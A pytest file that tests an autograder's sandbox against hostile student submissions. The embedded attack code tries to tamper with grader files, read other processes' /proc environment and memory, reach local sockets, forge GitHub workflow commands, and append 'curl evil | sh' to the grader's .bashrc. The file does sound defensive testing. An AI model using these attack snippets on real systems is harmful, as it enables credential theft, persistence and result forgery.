"""Hostile submissions, end to end: each attacks the grader from inside its sandbox and must change nothing.

Every hostile submission is a complete digits.py, the solution plus an attack, so that an attack
that fails leaves it scoring exactly like the solution graded alone. It prints each attempt on a
`HOSTILE {"attack": ..., "outcome": "succeeded: ..." | "refused: ..."}` line, which the test reads
back from results.json's output: a test fails if an attack did not run, if it succeeded, if
anything it aimed at outside its sandbox changed, or if a classmate of its batch scored otherwise
than alone. Attacks on files that belong to this machine (the grader's package, the solution, the
venv's data) write back the bytes they read, so that a broken sandbox would show up as a changed
timestamp, never as damage; everything else they aim at lives in temporary folders.
"""

from __future__ import annotations

import ast
import contextlib
import csv
import hashlib
import importlib.util
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from conftest import SOLUTION, SUBMISSIONS, TEMPLATE, grade_with
from grader.assignment import course, spec
from grader.platforms import github
from grader.sandbox import isolation
from grader.views import outputs, summary

pytestmark = pytest.mark.slow

TWICE = SUBMISSIONS / "normalise_twice.py"  # an honest classmate who loses the normalise point

# What every inline hostile submission adds to its copy of the solution (or template) before its attack.
PRELUDE = '''

# --- the attack ---------------------------------------------------------------------------------
import json as _json
import os as _os


def _attempt(attack, action):
    try:
        outcome = "succeeded: " + repr(action())[:300]
    except BaseException as exc:  # noqa: BLE001 - any failure is the attack failing
        outcome = f"refused: {type(exc).__name__}: {exc}"[:300]
    print("HOSTILE " + _json.dumps({"attack": attack, "outcome": outcome}), flush=True)


def _rewrite(path):
    """Open for writing and write back what was there: a success changes the timestamps, not the bytes."""
    with open(path, "r+b") as handle:
        data = handle.read()
        handle.seek(0)
        handle.write(data)
    return len(data)

'''


# --- helpers ----------------------------------------------------------------------------------------

def require(*layers: str) -> None:
    """Skip, saying why, unless this machine provides every isolation layer the defence under test relies on."""
    lacking = isolation.missing(isolation.probe())
    wanted = {name: lacking[name] for name in layers if name in lacking}
    if wanted:
        pytest.skip("this machine lacks the isolation layer(s) " + "; ".join(f"{n}: {why}" for n, why in wanted.items()))


def hostile(folder: Path, attack: str, targets: dict[str, Any], *, base: Path = SOLUTION) -> Path:
    """Write `base` plus the prelude, the targets and `attack` as folder/digits.py; return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "digits.py"
    path.write_text(base.read_text() + PRELUDE + f"TARGETS = {targets!r}\n\n" + attack)
    return path


def attempts(results: dict[str, Any]) -> dict[str, list[str]]:
    """attack -> its outcomes, from the HOSTILE lines the submission printed."""
    found: dict[str, list[str]] = {}
    for line in results["output"].splitlines():
        if line.startswith("HOSTILE "):
            entry = json.loads(line[len("HOSTILE "):])
            found.setdefault(entry["attack"], []).append(entry["outcome"])
    return found


def assert_refused(results: dict[str, Any], *attacks: str, prefix: bool = False) -> dict[str, list[str]]:
    """Each attack (with `prefix`: each attack whose name starts so) was tried, and every try was refused."""
    log = attempts(results)
    for attack in attacks:
        tried = {name: outcomes for name, outcomes in log.items() if name == attack or (prefix and name.startswith(attack))}
        assert tried, f"the attack {attack!r} never ran; it printed {sorted(log)}\n{results['output'][-3000:]}"
        for name, outcomes in tried.items():
            assert all(o.startswith("refused: ") for o in outcomes), (name, outcomes)
    return log


def workflow_commands(stdout: str) -> list[str]:
    """The lines GitHub Actions would run as workflow commands: those outside ::stop-commands:: blocks."""
    commands, token = [], None
    for line in stdout.splitlines():
        stripped = line.lstrip()
        if token is None and stripped.startswith("::stop-commands::"):
            token = stripped.split("::", 3)[2]
        elif token is not None and stripped == f"::{token}::":
            token = None
        elif token is None and stripped.startswith("::"):
            commands.append(line)
    assert token is None, "a stop-commands block was never closed"
    return commands


def scores(results: dict[str, Any]) -> dict[str, float]:
    return {test["name"]: test["score"] for test in results["tests"]}


def assert_as_alone(results: dict[str, Any], alone: dict[str, Any]) -> None:
    """The same points, check by check, and the same accuracy (grading is deterministic) as graded alone."""
    assert scores(results) == scores(alone), [t["output"][:300] for t in results["tests"] if t["status"] != "passed"]
    assert round(results["extra_data"]["accuracy"], 4) == round(alone["extra_data"]["accuracy"], 4)


def assert_layers(results: dict[str, Any], *layers: str) -> None:
    """The results record that the sandbox ran with these layers up."""
    assert set(layers) <= set(results["extra_data"]["isolation"]["layers"]), results["extra_data"]["isolation"]


def state(path: Path) -> tuple | None:
    """What a change would alter: content, timestamps, mode, size; None if nothing is there."""
    try:
        info = path.lstat()
    except FileNotFoundError:
        return None
    digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else None
    return digest, info.st_mtime_ns, info.st_ctime_ns, info.st_mode, info.st_size


def tree(root: Path) -> dict[str, tuple | None]:
    """state() of `root` and of everything beneath it, by relative path."""
    return {str(p.relative_to(root)): state(p) for p in [root, *sorted(root.rglob("*"))]}


def processes_of(uids: set[int]) -> list[str]:
    """The processes (pid and name) running as any of `uids`."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        if int(fields["Uid"].split()[0]) in uids:
            found.append(f"{entry} {fields['Name'].strip()}")
    return found


def grader_cli(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "grader", *args], cwd=cwd, capture_output=True, text=True,
                          env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "2", **(env or {})}, timeout=900)


@pytest.fixture(scope="module")
def grade_here(fast_digits):
    """Grade a submission in this process at the small budget, through the real grader; returns results.json's dict."""

    return lambda path: grade_with(path, fast_digits)


# --- 1. tampering with the grader and the reference solution -----------------------------------------

@pytest.fixture(scope="module")
def tampering(tmp_path_factory, grade_here, graded, fast_digits) -> dict[str, Any]:
    require("landlock")
    import site

    import grader

    package = Path(grader.__file__).resolve().parent
    token = uuid.uuid4().hex[:8]
    files = [package / "__init__.py", package / "__main__.py", fast_digits.solution.resolve()]
    planted = [package / f"_hostile_{token}.py", Path(site.getsitepackages()[0]) / f"_hostile_{token}.pth"]
    attack = '''
import grader as _grader

_attempt("locate the grader package", lambda: _grader.__file__)  # preloaded: the installed package itself
for _path in TARGETS["files"]:
    _attempt(f"append to {_path}", lambda path=_path: open(path, "ab").close())
    _attempt(f"overwrite {_path}", lambda path=_path: _rewrite(path))
    _attempt(f"touch {_path}", lambda path=_path: _os.utime(path))
for _path in TARGETS["plant"]:
    _attempt(f"plant {_path}", lambda path=_path: open(path, "x").write("# planted by a submission\\n"))
'''
    path = hostile(tmp_path_factory.mktemp("tamper"), attack, {"files": [str(p) for p in files],
                                                               "plant": [str(p) for p in planted]})
    honest_before = graded(SOLUTION)
    before = {str(p): state(p) for p in files}
    try:
        results = grade_here(path)
        after = {str(p): state(p) for p in files}
        created = [str(p) for p in planted if p.exists()]
    finally:
        for p in planted:
            p.unlink(missing_ok=True)
    honest_after = grade_here(SOLUTION)  # a fresh zygote: it imports the grader's files from disk again
    return {"results": results, "before": before, "after": after, "created": created, "package": package,
            "honest_before": honest_before, "honest_after": honest_after}


def test_tampering_with_the_grader_and_the_solution_changes_no_file(tampering) -> None:
    results = tampering["results"]
    assert_layers(results, "landlock")
    log = assert_refused(results, "append to", "overwrite", "touch", "plant", prefix=True)
    # What the sandbox imports as `grader` is the very package attacked: the same files, not a copy.
    assert log["locate the grader package"] == [f"succeeded: {str(tampering['package'] / '__init__.py')!r}"], log
    assert len([name for name in log if name.startswith(("append to", "overwrite", "touch"))]) == 3 * 3
    assert tampering["after"] == tampering["before"]  # sha256, mtime, ctime, mode, size
    assert tampering["created"] == []
    assert_as_alone(results, tampering["honest_before"])  # the attack cost the submission nothing, either


def test_an_honest_submission_graded_after_the_tampering_scores_as_before(tampering) -> None:
    assert tampering["honest_after"]["score"] == 10
    assert_as_alone(tampering["honest_after"], tampering["honest_before"])
    assert tampering["honest_after"]["extra_data"]["grader_faults"] == []


# --- 2. reading the reference solution ---------------------------------------------------------------

def test_functions_that_exec_the_reference_solution_score_nothing(tmp_path: Path, grade_here, fast_digits) -> None:
    require("landlock")
    solution = fast_digits.solution.resolve()
    attack = '''
def _reference():
    namespace = {}
    with open(TARGETS["solution"]) as handle:
        exec(compile(handle.read(), "reference", "exec"), namespace)
    return namespace


def reshape(images):
    return _reference()["reshape"](images)


def normalise(images):
    return _reference()["normalise"](images)


def build_model(input_shape=(28, 28, 1), num_classes=10):
    return _reference()["build_model"](input_shape, num_classes)


def compile_model(model):
    return _reference()["compile_model"](model)


def predict(model, images):
    return _reference()["predict"](model, images)


_attempt("read the reference solution", lambda: open(TARGETS["solution"]).read(80))
_attempt("import the grader's reference loader", lambda: __import__("grader.checks.context", fromlist=["x"]).load_reference)
'''
    before = state(solution)
    results = grade_here(hostile(tmp_path, attack, {"solution": str(solution)}, base=TEMPLATE))
    assert_layers(results, "landlock")
    assert_refused(results, "read the reference solution", "import the grader's reference loader")
    assert results["score"] == 0, scores(results)
    for test in results["tests"]:
        if test["name"] != "accuracy":
            # Refused by Landlock, or not there at all when the checkout lives in the sandbox's private /tmp.
            assert "PermissionError" in test["output"] or "FileNotFoundError" in test["output"], \
                (test["name"], test["output"][:500])
    assert state(solution) == before


# --- 3. reading the data sources ---------------------------------------------------------------------

@pytest.fixture(scope="module")
def data_theft(tmp_path_factory, grade_here, fast_digits) -> dict[str, Any]:
    require("landlock")
    (sample,) = [source for source in fast_digits.data.sources if source.kind == "package"]
    found = importlib.util.find_spec(sample.package)
    package = Path(list(found.submodule_search_locations)[0])
    bundled = package / sample.resource
    # KERAS_HOME inside the venv, which the sandbox may read: only the grader's carve-out keeps its datasets/ hidden.
    keras_home = Path(tempfile.mkdtemp(prefix=".hostile-keras-home-", dir=sys.prefix))
    try:
        decoy = keras_home / "datasets" / "decoy.npz"
        decoy.parent.mkdir()
        decoy.write_bytes(b"HOSTILE-DECOY-" + uuid.uuid4().hex.encode())
        attack = '''
_attempt("read the bundled data", lambda: open(TARGETS["bundled"], "rb").read(16))
_attempt("rewrite the bundled data", lambda: _rewrite(TARGETS["bundled"]))
_attempt("read the Keras cache", lambda: open(TARGETS["decoy"], "rb").read())
_attempt("list the Keras cache", lambda: _os.listdir(_os.path.dirname(TARGETS["decoy"])))
_attempt("read a library file beside the data", lambda: open(TARGETS["control"]).read(16))
'''
        targets = {"bundled": str(bundled), "decoy": str(decoy), "control": str(package / "__init__.py")}
        path = hostile(tmp_path_factory.mktemp("data"), attack, targets)
        before = {"bundled": state(bundled), "decoy": state(decoy)}
        with pytest.MonkeyPatch.context() as env:
            env.setenv("KERAS_HOME", str(keras_home))
            results = grade_here(path)
        after = {"bundled": state(bundled), "decoy": state(decoy)}
        secret = decoy.read_bytes().decode()
    finally:
        shutil.rmtree(keras_home, ignore_errors=True)
    return {"results": results, "before": before, "after": after, "secret": secret, "bundled": bundled}


def test_the_bundled_data_and_the_keras_cache_cannot_be_read(data_theft, graded) -> None:
    results = data_theft["results"]
    assert_layers(results, "landlock")
    log = assert_refused(results, "read the bundled data", "rewrite the bundled data", "read the Keras cache",
                         "list the Keras cache")
    for attack in ("read the bundled data", "read the Keras cache"):  # the venv may live in the private /tmp
        assert "PermissionError" in log[attack][0] or "FileNotFoundError" in log[attack][0], log[attack]
    # Not a blanket refusal: the rest of the same library stays readable, as importing it needs.
    assert log["read a library file beside the data"][0].startswith("succeeded: "), log
    assert data_theft["secret"] not in json.dumps(results)
    assert data_theft["after"] == data_theft["before"]
    assert results["extra_data"]["data"]["path"] == str(data_theft["bundled"])  # the grader itself still read it
    assert_as_alone(results, graded(SOLUTION))


# --- 5. the grader's /proc: environment and memory -----------------------------------------------------

@pytest.fixture(scope="module")
def proc_theft(tmp_path_factory, grade_here) -> dict[str, Any]:
    require("namespaces", "uid")
    secret = f"hostile-secret-{uuid.uuid4().hex}"
    attack = '''
def _environ_entry(pid):
    with open(f"/proc/{pid}/environ", "rb") as handle:
        data = handle.read()
    found = [e.decode(errors="replace") for e in data.split(b"\\0") if e.startswith(TARGETS["name"].encode() + b"=")]
    return found or f"{len(data)} bytes without {TARGETS['name']}"


def _memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        start = int(maps.readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(64)


def _every_environ():
    found = {}
    for entry in _os.listdir("/proc"):
        if entry.isdigit():
            try:
                found[entry] = _environ_entry(entry)
            except OSError as exc:
                found[entry] = type(exc).__name__
    return found


_attempt("own environment", lambda: _os.environ.get(TARGETS["name"]))
for _who, _pid in [("grader", TARGETS["pid"]), ("parent", _os.getppid())]:
    _attempt(f"environ of the {_who}", lambda pid=_pid: _environ_entry(pid))
    _attempt(f"memory of the {_who}", lambda pid=_pid: _memory(pid))
_attempt("every environ in /proc", _every_environ)
'''
    path = hostile(tmp_path_factory.mktemp("proc"), attack, {"pid": os.getpid(), "name": "HOSTILE_TEST_SECRET"})
    with pytest.MonkeyPatch.context() as env:
        env.setenv("HOSTILE_TEST_SECRET", secret)
        results = grade_here(path)
    out = tmp_path_factory.mktemp("proc-out")
    outputs.write(results, out)
    return {"results": results, "secret": secret, "out": out}


def test_the_graders_environment_and_memory_cannot_be_read_through_proc(proc_theft, graded) -> None:
    results = proc_theft["results"]
    assert_layers(results, "namespaces", "uid")
    log = assert_refused(results, "environ of the grader", "memory of the grader", "environ of the parent",
                         "memory of the parent")
    assert log["own environment"] == ["succeeded: None"]
    assert log["every environ in /proc"][0].startswith("succeeded: ")  # it scanned all it could see, and found nothing
    secret = proc_theft["secret"]
    assert secret not in json.dumps(results)
    assert secret not in (proc_theft["out"] / "results.json").read_text()
    assert secret not in (proc_theft["out"] / "report.html").read_text()
    assert secret not in summary.text(results)
    assert_as_alone(results, graded(SOLUTION))


# --- 8. planting data in the grader's home ------------------------------------------------------------

def test_nothing_can_be_planted_in_the_graders_home(tmp_path: Path, grade_here, graded, monkeypatch) -> None:
    require("landlock")
    home = tmp_path / "grader-home"
    (home / ".keras").mkdir(parents=True)
    (home / ".bashrc").write_text("# the grader's own\n")
    # Keras itself writes ~/.keras/keras.json when the grader imports it, if there is none: give it one.
    (home / ".keras" / "keras.json").write_text('{"floatx": "float32", "epsilon": 1e-07, "backend": "tensorflow"}\n')
    attack = '''
import numpy as _np


def _plant_mnist(home):
    folder = _os.path.join(home, ".keras", "datasets")
    _os.makedirs(folder, exist_ok=True)
    images, labels = _np.zeros((10, 28, 28), _np.uint8), _np.zeros(10, _np.uint8)
    _np.savez(_os.path.join(folder, "mnist.npz"), x_train=images, y_train=labels, x_test=images, y_test=labels)
    return folder


def _write(path, text, mode="w"):
    with open(path, mode) as handle:
        handle.write(text)


_attempt("plant mnist.npz in the grader's home", lambda: _plant_mnist(TARGETS["home"]))
_attempt("write keras.json in the grader's home", lambda: _write(_os.path.join(TARGETS["home"], ".keras", "keras.json"), "{}"))
_attempt("append to the grader's .bashrc", lambda: _write(_os.path.join(TARGETS["home"], ".bashrc"), "curl evil | sh\\n", "a"))
_attempt("plant mnist.npz in its own home", lambda: _plant_mnist(_os.path.expanduser("~")))
'''
    path = hostile(tmp_path / "submission", attack, {"home": str(home)})
    before = tree(home)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))  # the grader's own cache of parsed data
    monkeypatch.delenv("KERAS_HOME", raising=False)
    results = grade_here(path)
    assert_layers(results, "landlock")
    log = assert_refused(results, "plant mnist.npz in the grader's home", "write keras.json in the grader's home",
                         "append to the grader's .bashrc")
    assert log["plant mnist.npz in its own home"][0].startswith("succeeded: "), log  # its own home is writable
    assert tree(home) == before
    assert results["extra_data"]["data"]["path"] != str(home / ".keras" / "datasets" / "mnist.npz")
    assert_as_alone(results, graded(SOLUTION))


# --- 9. the network -----------------------------------------------------------------------------------

def test_the_sandbox_cannot_reach_a_listener_on_this_machine(tmp_path: Path, grade_here, graded) -> None:
    require("namespaces", "seccomp")
    abstract = f"hostile-{uuid.uuid4().hex}"
    attack = '''
import socket as _socket


def _tcp():
    with _socket.create_connection(("127.0.0.1", TARGETS["tcp"]), timeout=3) as connection:
        connection.sendall(b"HOSTILE-PING")


def _udp():
    with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as datagram:
        return datagram.sendto(b"HOSTILE-PING", ("127.0.0.1", TARGETS["udp"]))


def _abstract():
    with _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM) as connection:
        connection.connect("\\0" + TARGETS["abstract"])
        connection.sendall(b"HOSTILE-PING")


_attempt("connect over TCP", _tcp)
_attempt("send over UDP", _udp)
_attempt("connect to an abstract unix socket", _abstract)
_attempt("resolve a host name", lambda: _socket.getaddrinfo("example.com", 80))
'''
    received = []
    with contextlib.ExitStack() as stack:
        tcp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
        tcp.bind(("127.0.0.1", 0))
        tcp.listen(8)
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("127.0.0.1", 0))
        unix = stack.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        unix.bind("\0" + abstract)
        unix.listen(8)
        targets = {"tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1], "abstract": abstract}
        results = grade_here(hostile(tmp_path, attack, targets))
        for listener in (tcp, unix):
            listener.settimeout(1.0)
            with contextlib.suppress(socket.timeout):
                connection = stack.enter_context(listener.accept()[0])
                received.append(connection.recv(100) or b"(connected)")
        udp.settimeout(1.0)
        with contextlib.suppress(socket.timeout):
            received.append(udp.recvfrom(100)[0])
    assert_layers(results, "namespaces", "seccomp")
    assert_refused(results, "connect over TCP", "send over UDP", "connect to an abstract unix socket",
                   "resolve a host name")
    assert received == []
    assert_as_alone(results, graded(SOLUTION))


# --- 4, 6, 7, 10. a batch with hostile classmates, through `grader run` -------------------------------

BATCH = ("ada", "cy", "killer", "linker", "snoop", "zed")  # graded in name order: the daemon (zed) last


@pytest.fixture(scope="module")
def batch(tmp_path_factory, fast_course, graded) -> dict[str, Any]:
    """One `grader run` of a class of two honest students and four hostile ones, on two workers; what it left."""
    require("landlock", "namespaces", "seccomp", "uid")
    alone = {"ada": graded(SOLUTION), "cy": graded(TWICE)}
    root = tmp_path_factory.mktemp("batch")
    classroom, out = root / "class", root / "out"
    folders = {name: classroom / name for name in BATCH}
    for folder in folders.values():
        folder.mkdir(parents=True)
    shutil.copy(SOLUTION, folders["ada"] / "digits.py")
    shutil.copy(TWICE, folders["cy"] / "digits.py")
    shutil.copy(SUBMISSIONS / "hostile_killer.py", folders["killer"] / "digits.py")
    shutil.copy(SOLUTION, folders["linker"] / "digits.py")
    os.symlink("../ada/digits.py", folders["linker"] / "classmate.py")
    os.symlink("/etc/hostname", folders["linker"] / "hostname")
    shutil.copy(SUBMISSIONS / "hostile_snoop.py", folders["snoop"] / "digits.py")
    (folders["snoop"] / "targets.json").write_text(json.dumps({"classmate": str(folders["ada"] / "digits.py")}))
    shutil.copy(SUBMISSIONS / "hostile_daemon.py", folders["zed"] / "digits.py")
    forge = [str(out / name / "results.json") for name in BATCH] + [str(out / "gradebook.csv"), str(out / "index.html")]
    (folders["zed"] / "targets.json").write_text(json.dumps({"forge": forge}))
    before = tree(classroom)
    started = time.monotonic()
    done = grader_cli("run", *map(str, folders.values()), "--out", str(out), "--jobs", "2",
                      "--assignment", str(fast_course), cwd=root)
    seconds = time.monotonic() - started
    at_exit = tree(out)
    time.sleep(3)  # a surviving daemon would rewrite its targets every 0.2 s
    results = {name: json.loads((out / name / "results.json").read_text()) for name in BATCH
               if (out / name / "results.json").is_file()}
    return {"done": done, "seconds": seconds, "out": out, "before": before, "class_after": tree(classroom),
            "at_exit": at_exit, "later": tree(out), "results": results, "alone": alone}


def test_the_batch_completes_with_a_result_for_every_student(batch) -> None:
    done = batch["done"]
    assert done.returncode == 1, done.stderr[-3000:]  # points lost (cy, linker); no fault of the grader's
    assert set(batch["results"]) == set(BATCH)
    with open(batch["out"] / "gradebook.csv") as handle:
        assert {row["name"] for row in csv.DictReader(handle)} == set(BATCH)
    for name, results in batch["results"].items():
        assert results["extra_data"].get("grader_faults") == [], (name, results["extra_data"])


def test_killing_every_process_in_sight_kills_nothing_of_the_grader(batch) -> None:
    killer = batch["results"]["killer"]
    assert_layers(killer, "namespaces", "uid")
    log = assert_refused(killer, "import: kill", "predict: kill", prefix=True)
    assert any(name.startswith("import: kill ") for name in log) and "import: kill -1" in log, sorted(log)
    looks = [ast.literal_eval(look.removeprefix("succeeded: ")) for look in log["import: look"] + log["predict: look"]]
    assert looks and all(look["armed"] for look in looks), looks  # it did send every signal
    # It sees no process of the grader's, only its sandbox's own pid 1 (the parent it tried to kill).
    assert all(look["parent"] == 1 and all(pid < 10 for pid in look["seen"]) for look in looks), looks
    assert_as_alone(killer, batch["alone"]["ada"])  # it killed nothing, not even its own sandbox
    for name in ("ada", "cy"):
        assert_as_alone(batch["results"][name], batch["alone"][name])


def test_a_daemon_does_not_outlive_its_sandbox_nor_forge_the_results(batch) -> None:
    zed = batch["results"]["zed"]
    assert_layers(zed, "landlock", "namespaces", "cgroup")
    log = assert_refused(zed, "forge ", "leave the control group", prefix=True)
    assert any(o.startswith("succeeded: ") for o in log.get("daemon started", [])), sorted(log)  # it did start
    assert batch["later"] == batch["at_exit"], "a file of the output folder changed after grader run exited"
    for path in batch["out"].rglob("*"):
        if path.is_file():
            assert b"HOSTILE-FORGED" not in path.read_bytes(), path
    assert_as_alone(zed, batch["alone"]["ada"])
    uids = {int(o.split()[-1]) for o in log["uid"] + log["daemon started"]}
    assert uids and min(uids) >= isolation.UID_BASE, uids
    assert processes_of(uids) == []


def test_a_classmate_cannot_read_or_change_another_students_files(batch) -> None:
    snoop = batch["results"]["snoop"]
    assert_layers(snoop, "landlock")
    log = assert_refused(snoop, "list the class folder", "read the classmate's file", "overwrite the classmate's file",
                         "replace the classmate's file", "delete the classmate's file", "find other sandboxes' copies")
    assert "PermissionError" in log["read the classmate's file"][0] or "FileNotFoundError" in log["read the classmate's file"][0]
    assert batch["class_after"] == batch["before"]  # every student's files: content, timestamps, modes
    assert_as_alone(snoop, batch["alone"]["ada"])
    assert_as_alone(batch["results"]["ada"], batch["alone"]["ada"])


def test_links_to_a_classmate_and_to_the_system_are_refused_and_harm_no_one(batch) -> None:
    linker = batch["results"]["linker"]
    assert linker["score"] == 0
    for test in linker["tests"]:
        extra = test["extra_data"]
        assert extra["fault"] == "unsafe", (test["name"], extra)
        assert "symbolic link" in extra["feedback"] and "outside" in extra["feedback"], extra
        assert "classmate.py" in extra["feedback"] or "hostname" in extra["feedback"], extra["feedback"]
        assert "not links" in extra["hint"]
    for name in ("ada", "cy"):
        assert_as_alone(batch["results"][name], batch["alone"][name])
    assert batch["class_after"] == batch["before"]


# --- 11. the grader's stdout and GitHub's step summary ------------------------------------------------

FORGED_NOTICE = "::notice title=Autograding complete::Points 10/10"


@pytest.fixture(scope="module")
def actions(tmp_path_factory, fast_course) -> dict[str, Any]:
    """`grader run` as a GitHub Actions step, on a submission that forges workflow commands and the summary."""
    require("landlock", "namespaces", "uid")
    workspace = tmp_path_factory.mktemp("actions")
    summary_file = workspace / "step-summary.md"
    summary_file.write_text("Output of an earlier step.\n")
    attack = '''
print(FORGED_NOTICE)
print("::notice title=Autograding::Points 10/10")


def _write_to(path):
    with open(path, "w") as handle:
        handle.write("\\n" + FORGED_NOTICE + "\\n")


def _every_stdout():
    written = []
    for entry in _os.listdir("/proc"):
        if entry.isdigit() and int(entry) != _os.getpid():
            for fd in (1, 2):
                try:
                    _write_to(f"/proc/{entry}/fd/{fd}")
                    written.append(f"{entry}/{fd}")
                except OSError:
                    pass
    if not written:
        raise PermissionError("no other process's stdout or stderr could be opened")
    return written


_attempt("write to the parent's stdout", lambda: _write_to(f"/proc/{_os.getppid()}/fd/1"))
_attempt("write to every stdout in /proc", _every_stdout)
_attempt("append to the step summary", lambda: open(TARGETS["summary"], "a").write("| forged | passed | 10/10 |\\n"))


def normalise(images):
    raise RuntimeError("x\\n" + FORGED_NOTICE + "\\n::error::forged")
'''
    attack = f"FORGED_NOTICE = {FORGED_NOTICE!r}\n" + attack
    submission = hostile(workspace / "student", attack, {"summary": str(summary_file)})
    env = {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary_file), "GITHUB_WORKSPACE": str(workspace)}
    done = grader_cli("run", "student/digits.py", "--out", "grading-out", "--assignment", str(fast_course),
                      cwd=workspace, env=env)
    results = json.loads((workspace / "grading-out" / "results.json").read_text())
    return {"done": done, "results": results, "summary": summary_file.read_text(), "workspace": workspace,
            "submission": submission, "task": course.load(str(fast_course))}


def test_a_submission_cannot_write_workflow_commands_or_the_step_summary(actions) -> None:
    done, results = actions["done"], actions["results"]
    assert done.returncode == 1, done.stderr[-3000:]
    assert_layers(results, "landlock", "namespaces", "uid")
    assert_refused(results, "write to the parent's stdout", "write to every stdout in /proc", "append to the step summary")
    assert FORGED_NOTICE in results["output"]  # it did print its forgery, into its own output
    assert scores(results) == {"reshape": 1, "normalise": 0, "build_model": 2, "compile_model": 1, "accuracy": 3,
                               "predict": 2}
    expected = [github.notice(results), *github.annotations(results, task=actions["task"],
                                                             submission=actions["submission"],
                                                             workspace=actions["workspace"])]
    assert workflow_commands(done.stdout) == expected, done.stdout  # GitHub reads a command after leading spaces too
    assert github.notice(results).endswith("Points 9/10")
    assert actions["summary"] == "Output of an earlier step.\n" + github.step_summary(results) + "\n"
